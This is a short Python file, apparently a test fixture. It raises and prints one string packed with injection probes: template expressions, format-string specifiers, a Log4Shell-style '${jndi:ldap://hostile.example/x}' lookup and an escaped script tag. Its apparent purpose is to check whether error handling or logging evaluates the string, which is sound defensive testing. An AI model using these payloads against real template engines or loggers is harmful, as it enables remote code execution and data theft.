"""Uses the languages in which pages, sentences and logs are written."""

_TEXT = (
    "{{ 7 * 191 }} {% raw %} {# hostile #} ${7*191} #{7*191} <%= 7*191 %> %s %n %(x)s"
    " {0.__class__.__mro__} {call.__class__} {type!r:>999999} {unknown} {} } { %d"
    " ${jndi:ldap://hostile.example/x} \\u003cscript hostile\\u003e \\g<1> \\1"
)
print(_TEXT)


def total(x):
    """Raise it."""
    raise ValueError(_TEXT)


def apply(function, x):
    """Raise it as a name, and as what was not implemented."""
    raise type(_TEXT, (NotImplementedError,), {})(f"not implemented: {_TEXT}")


class Scale(Scale):
    """Raises it as NotImplementedError itself."""

    def forward(self, x):
        """Raise."""
        raise NotImplementedError(_TEXT)
